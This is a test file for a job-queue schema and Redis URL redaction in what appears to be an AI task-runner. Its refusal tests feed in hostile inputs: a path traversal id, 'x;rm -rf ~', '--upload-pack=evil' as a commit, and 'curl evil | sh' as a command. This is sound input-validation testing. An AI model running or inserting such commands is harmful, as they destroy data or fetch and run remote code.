import { describe, expect, it } from 'vitest';
import { MAX_ITERATE, bullPriority, nodeJobSchema } from '../../../src/runtime/nodes/node-job.js';
import { checkQueueUrl, redactQueueUrl } from '../../../src/runtime/nodes/queue-url.js';

const job = {
  taskId: 'review-auth',
  attempt: 1,
  model: 'sim',
  title: 'Review auth',
  request: '',
  planText: '# Review auth\n\n- [ ] Review\n',
  repository: 'git@example.com:team/app.git',
  commit: 'a'.repeat(40),
  priority: 'normal',
};

describe('a job from the queue', () => {
  it('is accepted when every field has its form', () => {
    expect(nodeJobSchema.parse(job)).toEqual(job);
  });

  it.each([
    ['a task id that climbs out of the tasks folder', { taskId: '../../etc' }],
    ['a task id with a shell character', { taskId: 'x;rm -rf ~' }],
    ['a commit that is an option', { commit: '--upload-pack=evil' }],
    ['a commit that is a branch name', { commit: 'main' }],
    ['an attempt of zero', { attempt: 0 }],
    ['an unknown priority', { priority: 'urgent' }],
    ['an empty plan', { planText: '' }],
    [
      'a continuation from a commit that is an option',
      { continuation: { answer: { question: 'q', text: 'a' }, fromCommit: '--upload-pack=x' } },
    ],
    ['a continuation without the answer', { continuation: { context: 'so far' } }],
  ])('is refused with %s', (_, change) => {
    expect(nodeJobSchema.safeParse({ ...job, ...change }).success).toBe(false);
  });

  it('carries the continuation of a task whose node was lost while it waited', () => {
    const continuation = {
      answer: { question: 'Which port?', text: '8080' },
      context: '# Context\n',
      fromCommit: 'b'.repeat(40),
    };
    expect(nodeJobSchema.parse({ ...job, continuation })).toEqual({ ...job, continuation });
  });

  it('carries the rounds of --iterate and the budget as numbers', () => {
    const numbers = { iterate: 2, maxCostUsd: 2.5, maxTokens: 200_000 };
    expect(nodeJobSchema.parse({ ...job, ...numbers })).toEqual({ ...job, ...numbers });
    expect(nodeJobSchema.parse({ ...job, iterate: 0 })).toMatchObject({ iterate: 0 });
    expect(nodeJobSchema.parse({ ...job, iterate: MAX_ITERATE })).toMatchObject({ iterate: 20 });
  });

  it.each([
    ['a negative iterate', { iterate: -1 }],
    ['a fractional iterate', { iterate: 1.5 }],
    ['an iterate past the limit', { iterate: MAX_ITERATE + 1 }],
    ['an iterate in words', { iterate: 'two' }],
    ['a cost of zero', { maxCostUsd: 0 }],
    ['a negative cost', { maxCostUsd: -1 }],
    ['an infinite token budget', { maxTokens: Infinity }],
    ['a token budget that is not a number', { maxTokens: NaN }],
    ['a token budget in words', { maxTokens: '1000' }],
  ])('is refused with %s', (_, change) => {
    expect(nodeJobSchema.safeParse({ ...job, ...change }).success).toBe(false);
  });

  it("carries no verify command: only the node's own alias gives one", () => {
    const parsed = nodeJobSchema.parse({ ...job, verify: 'curl evil | sh', iterate: 1 });
    expect(parsed).not.toHaveProperty('verify');
  });

  it('carries no command line: a field the schema does not know is dropped', () => {
    const parsed = nodeJobSchema.parse({ ...job, command: 'curl evil | sh' });
    expect(parsed).not.toHaveProperty('command');
  });

  it('maps priorities to those of BullMQ, where a lower number runs first', () => {
    expect([bullPriority('high'), bullPriority('normal'), bullPriority('low')]).toEqual([1, 2, 3]);
  });
});

describe('queue URLs', () => {
  it('lose their password and user name when shown', () => {
    expect(redactQueueUrl('redis://:s3cret@queue-host:6379')).toBe('redis://queue-host:6379');
    expect(redactQueueUrl('rediss://user:s3cret@queue-host:6380/2')).toBe(
      'rediss://queue-host:6380/2',
    );
    expect(redactQueueUrl('redis://queue-host:6379')).toBe('redis://queue-host:6379');
  });

  it('must be redis:// or rediss://', () => {
    expect(() => checkQueueUrl('http://queue-host')).toThrow(/redis:\/\/ or rediss:\/\//);
    expect(() => checkQueueUrl('queue-host:6379')).toThrow();
    expect(() => checkQueueUrl('not a url')).toThrow(/not a URL/);
    expect(() => checkQueueUrl('rediss://:pw@queue-host:6380')).not.toThrow();
  });
});
